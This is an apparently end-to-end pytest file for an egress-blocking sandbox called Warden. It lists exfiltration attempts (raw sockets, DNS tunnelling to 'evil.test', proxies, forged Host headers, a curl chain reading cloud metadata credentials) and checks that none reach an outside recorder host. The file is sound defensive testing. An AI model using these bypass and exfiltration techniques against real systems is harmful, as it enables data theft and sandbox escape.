"""A process that goes around everything: nothing leaves but what was ruled on.

Outside stands a real host: a network namespace of the test's own with an address that this machine has a route to, where a recorder
keeps every byte that arrives over TCP and UDP. Each attempt is first run without Warden and must reach the recorder (the control), then
inside, and must not. Attempts against AWS's names check that the local AWS never saw the request.
"""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
import textwrap
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.e2e.conftest import Warden
from tools.cloud import LocalAws

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="makes a network namespace with a host in it")

#: A network of this run's own: two runs beside each other may not see each other's attempts.
NETWORK = os.getpid() % 250 + 1
V4, V6 = f"10.213.{NETWORK}.2", f"fd13:{NETWORK:x}::2"

RECORDER = """
import selectors, socket, sys
selector = selectors.DefaultSelector()
for family, address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
    for port in (53, 80, 443, 5432):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            s = socket.socket(family, kind)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            if family == socket.AF_INET6:
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            s.bind((address, port))
            if kind == socket.SOCK_STREAM:
                s.listen()
            selector.register(s, selectors.EVENT_READ, kind)
log = open(sys.argv[1], "ab", buffering=0)
log.write(b"ready\\n")
while True:
    for key, _ in selector.select():
        if key.data == socket.SOCK_STREAM:
            c, peer = key.fileobj.accept()
            log.write(b"connect %r\\n" % (peer,))
            selector.register(c, selectors.EVENT_READ, "data")
        elif key.data == socket.SOCK_DGRAM:
            data, peer = key.fileobj.recvfrom(65536)
            log.write(b"udp %r\\n" % data)
            key.fileobj.sendto(b"pong", peer)
        else:
            try:
                data = key.fileobj.recv(65536)
            except OSError:
                data = b""
            if data:
                log.write(b"tcp %r\\n" % data)
            else:
                selector.unregister(key.fileobj)
                key.fileobj.close()
"""


@dataclass(frozen=True)
class Outside:
    """The host outside; `log` is what arrived there."""

    log: Path

    def seen(self) -> str:
        return self.log.read_text(errors="replace")


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outside]:
    name = f"wt{uuid.uuid4().hex[:8]}"
    log = tmp_path_factory.mktemp("outside") / "seen"

    def ip(*arguments: str) -> None:
        subprocess.run(["ip", *arguments], check=True, capture_output=True)

    with contextlib.ExitStack() as stack:
        ip("netns", "add", name)
        stack.callback(ip, "netns", "delete", name)
        ip("link", "add", name[:8], "type", "veth", "peer", "name", "eth0", "netns", name)
        ip("addr", "add", f"10.213.{NETWORK}.1/24", "dev", name[:8])
        ip("addr", "add", f"fd13:{NETWORK:x}::1/64", "dev", name[:8], "nodad")
        ip("link", "set", name[:8], "up")
        for command in (["addr", "add", f"{V4}/24", "dev", "eth0"], ["addr", "add", f"{V6}/64", "dev", "eth0", "nodad"]):
            ip("-n", name, *command)
        ip("-n", name, "link", "set", "eth0", "up")
        ip("-n", name, "link", "set", "lo", "up")
        recorder = subprocess.Popen(["ip", "netns", "exec", name, sys.executable, "-c", RECORDER, str(log)])
        stack.callback(recorder.wait)
        stack.callback(recorder.kill)
        end = time.monotonic() + 10
        while not (log.exists() and log.read_text()) and time.monotonic() < end:
            time.sleep(0.02)
        yield Outside(log)


#: name -> program that tries to bring the marker in argv[1] to the host outside. Any of its exceptions is fine.
ATTEMPTS = {
    "tcp to an address": f"s = socket.create_connection(({V4!r}, 443), 3); s.sendall(marker); time.sleep(.2)",
    "tcp to a database port": f"s = socket.create_connection(({V4!r}, 5432), 3); s.sendall(marker); time.sleep(.2)",
    "tcp over IPv6": f"s = socket.create_connection(({V6!r}, 443), 3); s.sendall(marker); time.sleep(.2)",
    "plain HTTP to an address": f"import urllib.request; urllib.request.urlopen('http://{V4}/' + marker.decode(), timeout=3)",
    "QUIC's port": f"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(marker, ({V4!r}, 443))",
    "udp over IPv6": f"s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(marker, ({V6!r}, 443))",
    "another DNS server": f"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(question, ({V4!r}, 53))",
    "another DNS server over TCP": f"s = socket.create_connection(({V4!r}, 53), 3); s.sendall(len(question).to_bytes(2) + question); time.sleep(.2)",
    "a raw socket": f"""
        header = b"\\0\\x35\\0\\x35" + (8 + len(marker)).to_bytes(2) + b"\\0\\0"
        socket.socket(socket.AF_INET, socket.SOCK_RAW, 17).sendto(header + marker, ({V4!r}, 0))""",
    "tcp fast open": f"s = socket.socket(); s.sendto(marker, socket.MSG_FASTOPEN, ({V4!r}, 443)); time.sleep(.2)",
    "a bound source": f"s = socket.socket(); s.settimeout(3); s.bind(('', 0)); s.connect(({V4!r}, 80)); s.sendall(marker); time.sleep(.2)",
    "IPv4 mapped in IPv6": f"s = socket.socket(socket.AF_INET6); s.settimeout(3); s.connect(('::ffff:{V4}', 443)); s.sendall(marker); time.sleep(.2)",
    "a child in the background": f"os.fork() or (os.setsid(), socket.create_connection(({V4!r}, 443), 3).sendall(marker)); time.sleep(1)",
    "a proxy of its own": f"""
        import threading
        relay = socket.create_server(("127.0.0.1", 0))
        def serve():
            c, _ = relay.accept()
            data = c.recv(100)
            socket.create_connection(({V4!r}, 443), 3).sendall(data)
        threading.Thread(target=serve, daemon=True).start()
        socket.create_connection(relay.getsockname(), 3).sendall(marker); time.sleep(1)""",
    "a proxy outside": f"""
        import urllib.request
        opener = urllib.request.build_opener(urllib.request.ProxyHandler(dict(http="http://{V4}:80")))
        opener.open("http://example.com/" + marker.decode(), timeout=3)""",
}  # fmt: skip

PREAMBLE = """
import os, socket, sys, time
marker = sys.argv[1].encode()
question = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(marker)]) + marker + b"\\4evil\\4test\\0\\0\\1\\0\\1"
started = time.monotonic()
try:
{body}
except Exception as error:
    print(type(error).__name__, error)
print("took", time.monotonic() - started)
"""


@pytest.mark.parametrize("name", ATTEMPTS)
def test_nothing_reaches_the_host_outside(warden: Warden, outside: Outside, name: str) -> None:
    program = PREAMBLE.format(body=textwrap.indent(textwrap.dedent(ATTEMPTS[name]).strip(), "    "))
    control, marker = uuid.uuid4().hex, uuid.uuid4().hex
    subprocess.run([sys.executable, "-c", program, control], timeout=30, check=True, capture_output=True)
    assert control in outside.seen(), "the attempt does not work without Warden, so its failure inside would mean nothing"
    connections = outside.seen().count("connect")
    inside = warden.python(program, marker)
    assert marker not in outside.seen(), inside
    assert outside.seen().count("connect") == connections, inside
    assert float(inside.stdout.rsplit("took", 1)[1]) < 2.9, f"rejected at once, not timed out: {inside}"


#: curl arguments that address EC2's delete to somewhere else than they say. `denied` or a failed connection, and never at the server.
FORGERIES = {
    "a forged Host": ["-H", "Host: pypi.org", "https://ec2.us-east-1.amazonaws.com/"],
    "Host of another AWS service": ["-H", "Host: sts.us-east-1.amazonaws.com", "https://ec2.us-east-1.amazonaws.com/"],
    "Host over HTTP/2": ["--http2", "-H", "Host: sts.us-east-1.amazonaws.com", "https://ec2.us-east-1.amazonaws.com/"],
    "two Hosts": ["-H", "Host: ec2.us-east-1.amazonaws.com", "-H", "Host : sts.us-east-1.amazonaws.com", "https://ec2.us-east-1.amazonaws.com/"],
    "--connect-to another name": ["--connect-to", "sts.us-east-1.amazonaws.com:443:ec2.us-east-1.amazonaws.com:443", "https://sts.us-east-1.amazonaws.com/"],
    "--resolve to an address": ["--resolve", f"ec2.us-east-1.amazonaws.com:443:{V4}", "https://ec2.us-east-1.amazonaws.com/"],
    "plain HTTP": ["http://ec2.us-east-1.amazonaws.com/"],
    "a proxy through ourselves": ["-x", "http://ec2.us-east-1.amazonaws.com:80", "https://ec2.us-east-1.amazonaws.com/"],
    "the listener itself": ["-k", "--connect-to", "::127.0.0.1:15001", "https://ec2.us-east-1.amazonaws.com/"],
    "an address as URL": ["-k", "https://198.18.0.1/"],
    "method override": ["-H", "X-HTTP-Method-Override: DELETE", "https://ec2.us-east-1.amazonaws.com/"],
    "Content-Length and chunked": ["-H", "Transfer-Encoding: chunked", "-H", "Content-Length: 5", "https://ec2.us-east-1.amazonaws.com/"],
}  # fmt: skip


@pytest.mark.parametrize("name", FORGERIES)
def test_forged_address_reaches_no_server(warden: Warden, cloud: LocalAws, outside: Outside, name: str) -> None:
    seen, requests = outside.seen(), len(cloud.requests())
    body = "Action=TerminateInstances&Version=2016-11-15&InstanceId.1=i-1"
    inside = warden.exec("curl", "-sS", "--max-time", "10", "-d", body, *FORGERIES[name])
    assert len(cloud.requests()) == requests, inside
    assert outside.seen() == seen, inside
    assert "timed out" not in inside.stderr, inside


RESOLVE = "import socket, sys\ntry: print(socket.getaddrinfo(sys.argv[1], 443))\nexcept OSError as e: print('refused', e)"


def test_names_that_nothing_allows_lead_to_their_denial_only(warden: Warden, outside: Outside) -> None:
    seen = outside.seen()
    for name in ("example.com", "mydb.abc123.us-east-1.rds.amazonaws.com", "ec2.us-east-1.amazonaws.com"):
        assert "198.18." in warden.python(RESOLVE, name).stdout, name
    for url in ("https://example.com/", "http://example.com/", "https://mydb.abc123.us-east-1.rds.amazonaws.com/"):
        inside = warden.exec("curl", "-sS", "--max-time", "10", "-w", "%{http_code}", url)
        assert inside.stdout[-3:] == "403", inside
        host = url.split("/")[2]
        assert f"warden denied GET on {host}" in inside.stdout, inside
        assert f'egress: {{allow: [\\"read {host}\\"]}}' in inside.stdout, inside
    for port in (22, 5432):
        connect = "import socket, sys\ns = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)\ns.send(b'x')\nprint(s.recv(9))"
        assert "ConnectionResetError" in warden.python(connect, "example.com", str(port)).stderr
    assert outside.seen() == seen


@pytest.mark.parametrize("name", ["evil.test", "metadata.google.internal", "printer.local"])
def test_names_that_are_not_public_do_not_resolve(warden: Warden, name: str) -> None:
    asked = f"{uuid.uuid4().hex}.{name}"
    assert warden.python(RESOLVE, asked).stdout.startswith("refused")
    denied = [r for r in warden.rulings() if r["decision"] == "deny" and "dns:query" in r["operations"]]
    assert any(asked in json.dumps(r) for r in denied)


def test_metadata_service_answers_at_once_and_gives_dummies(warden: Warden, cloud: LocalAws) -> None:
    roles = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    inside = warden.exec("bash", "-c", f"curl -sS --max-time 5 {roles}$(curl -sS --max-time 5 {roles})")
    keys = json.loads(inside.stdout)
    real = cloud.config()["credentials"]["aws"]
    assert keys["AccessKeyId"].startswith("ASIA"), inside
    assert not [value for value in real.values() if value and str(value) in inside.stdout]
    other = warden.exec("curl", "-sS", "--max-time", "5", "-w", "%{http_code}", "http://169.254.169.254/metadata/identity/oauth2/token")
    assert other.stdout[-3:] == "403", other


def test_listed_host_is_reached_and_its_neighbour_is_not(warden: Warden, cloud: LocalAws) -> None:
    warden.configure(egress={"allow": ["files.example.com"]}, upstream={"resolve": {"*.example.com": cloud.address}, "ca": [str(cloud.ca)]})
    # The local server has no certificate for this name: verification upstream must refuse it, visibly.
    listed = warden.exec("curl", "-sS", "-w", "%{http_code}", "https://files.example.com/")
    assert listed.stdout[-3:] == "502", listed
    neighbour = warden.exec("curl", "-sS", "-w", "%{http_code}", "https://other.example.com/")
    assert (neighbour.stdout[-3:], "warden denied GET on other.example.com" in neighbour.stdout) == ("403", True), neighbour
